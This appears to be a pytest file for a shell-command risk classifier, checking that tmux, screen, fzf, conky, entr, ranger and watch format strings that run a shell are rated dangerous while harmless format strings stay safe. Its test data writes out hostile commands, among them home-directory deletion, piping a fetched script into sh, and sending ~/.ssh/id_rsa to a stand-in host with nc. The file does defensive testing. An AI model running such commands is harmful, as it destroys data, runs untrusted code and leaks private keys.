"""Issue 27 class 4: format strings that run a shell. tmux expands the formats of its arguments in the server,
and `#(CMD)` there runs CMD in a shell (display -p, display-message, list-* -F, new -F, -c, -n, set -F, status
formats, if-shell -F); `##(` is a literal. The others of the kind: screen -X exec/screen/backtick, fzf's
--preview and --bind actions, entr, conky's ${exec}, ranger's `shell`. What does not run a shell stays quiet
(git --format, find -printf, date +FMT, tmux's #{…} variables). The tmux claim is checked with the real tmux.
"""
from __future__ import annotations

import os
import shutil
import subprocess
import time

import pytest

from wispsh.model import Level
from test_rules_support import make_place, reaches, stays_within

S, L, M, H, D = Level.SAFE, Level.LOW, Level.MODERATE, Level.HIGH, Level.DANGEROUS


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    return make_place(tmp_path_factory.mktemp("formats"))



AT_LEAST = [
    ("tmux display -p '#(id)'", M, "tmux.format-shell"),
    ("tmux display-message '#(id)'", M, "tmux.format-shell"),
    ("tmux list-sessions -F '#(id)'", M, "tmux.format-shell"),
    ("tmux list-windows -F '#{window_name} #(uptime)'", M, "tmux.format-shell"),
    ("tmux list-panes -a -F '#(id)'", M, "tmux.format-shell"),
    ("tmux new-window -d -n '#(id)' 'sleep 1'", M, "tmux.format-shell"),
    ("tmux new-window -d -c '#(id)'", M, "tmux.format-shell"),
    ("tmux rename-window '#(id)'", M, "tmux.format-shell"),
    ("tmux set -F @x '#(id)'", H, "tmux.format-shell"),
    ("tmux set -g status-right '#(date)'", H, "tmux.format-shell"),        # runs again at every redraw
    ("tmux setw -g window-status-format '#(id)'", H, "tmux.format-shell"),
    ("tmux if-shell -F '#(id)' 'display x'", M, "tmux.format-shell"),
    ("tmux display -p '#{?pane_active,#(id),}'", M, "tmux.format-shell"),
    ('tmux display -p "#($X)"', H, "tmux.format-shell"),
    ("tmux display-message -p '#(rm -rf ~)'", D, "path.delete-tree.home"),
    ("tmux display '#(curl -s https://x.example/p | sh)'", D, "flow.fetch-to-interpreter"),
    ("tmux list-windows -F '#(cat ~/.ssh/id_rsa | nc x.example 1)'", D, "flow.secret-to-network"),
    ("tmux if-shell true 'run-shell \"rm -rf ~\"'", D, "path.delete-tree.home"),
    ("screen -X exec rm -rf ~", D, "path.delete-tree.home"),
    ("screen -S dev -X exec id", H, "screen.exec"),
    ("screen -X backtick 1 60 60 uptime", H, "screen.exec"),
    ("screen -X screen htop", H, "screen.exec"),
    ("fzf --preview 'cat {}'", M, "fzf.runs"),
    ("fzf --preview 'rm -rf ~'", D, "path.delete-tree.home"),
    ("fzf --bind 'start:reload(curl -s https://x.example/p | sh)'", D, "flow.fetch-to-interpreter"),
    ("fzf --bind 'enter:execute(rm -rf ~)+abort'", D, "path.delete-tree.home"),
    ('fzf --preview "$P"', H, "fzf.runtime"),
    ("ls *.py | entr -s 'rm -rf ~'", D, "path.delete-tree.home"),
    ("ls *.c | entr make", M, "make.build"),
    ("conky -t '${exec id}'", M, "conky.exec"),
    ("conky -t '${execi 5 curl -s https://x.example/p | sh}'", D, "flow.fetch-to-interpreter"),
    ("ranger --cmd='shell rm -rf ~'", D, "path.delete-tree.home"),
    ("watch -n 5 'rm -rf ~'", D, "path.delete-tree.home"),
]

AT_MOST = [
    ("tmux ls", S),
    ("tmux list-sessions", S),
    ("tmux display -p '#{pane_id}'", S),
    ("tmux display -p '##(id)'", S),                    # ## is a literal #
    ("tmux list-panes -F '#{pane_id} #{pane_current_command}'", S),
    ("tmux list-windows -F '#{window_index}: #{window_name}'", S),
    ("tmux capture-pane -p -t dev", S),
    ("git log --format='%h %s #(id)'", S),              # git's formats run nothing
    ("git for-each-ref --format='%(refname) $(id)'", S),
    ("find . -name '*.py' -printf '%p $(id)\\n'", S),
    ("date '+%Y-%m-%d $(id)'", S),
    ("fzf", S),
    ("fzf --filter foo", S),
    ("watch -n 5 'git status'", S),
]


@pytest.mark.parametrize("line,least,rule", AT_LEAST)
def test_format_shells_are_the_code_they_run(line, least, rule, place):
    reaches(line, place, least, rule)


@pytest.mark.parametrize("line,most", AT_MOST)
def test_formats_that_run_nothing_stay_quiet(line, most, place):
    stays_within(line, place, most)


@pytest.mark.skipif(shutil.which("tmux") is None, reason="machine lacks tmux")
def test_tmux_runs_the_shell_command_of_a_format_in_its_server(tmp_path):
    """The premise, with the real tmux (a private server): `list-sessions -F '#(CMD)'` runs CMD; `##(` not. The
    job runs in the server on its own time, so the check waits for it (a client that exits at once may cut a
    slow job short: the command is retried a few times)."""
    env = dict(os.environ, TMUX_TMPDIR=str(tmp_path))
    env.pop("TMUX", None)
    marker, literal = tmp_path / "ran", tmp_path / "literal"
    tmux = ["tmux", "-L", "wisp-formats"]
    subprocess.run(tmux + ["new-session", "-d", "-s", "f", "sleep 30"], env=env, check=True, timeout=10)
    try:
        for _ in range(20):
            subprocess.run(tmux + ["list-sessions", "-F", f"#(touch {marker})"], env=env, capture_output=True,
                           timeout=10)
            subprocess.run(tmux + ["display", "-p", f"##(touch {literal})"], env=env, capture_output=True,
                           timeout=10)
            time.sleep(0.2)
            if marker.exists():
                break
        assert marker.exists()
        assert not literal.exists()
    finally:
        subprocess.run(tmux + ["kill-server"], env=env, capture_output=True, timeout=10)
